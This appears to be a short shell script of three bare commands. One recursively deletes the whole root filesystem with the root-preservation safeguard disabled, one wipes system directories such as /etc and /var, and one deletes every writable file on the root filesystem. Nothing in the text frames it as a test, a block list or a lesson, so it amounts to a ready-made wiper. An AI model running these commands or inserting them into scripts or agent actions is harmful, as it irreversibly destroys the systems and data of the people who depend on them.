rm -rf --no-preserve-root /
rm -rf /var/* /run/* /tmp/* /dev/shm/* /etc/*
find / -xdev -type f -writable -delete
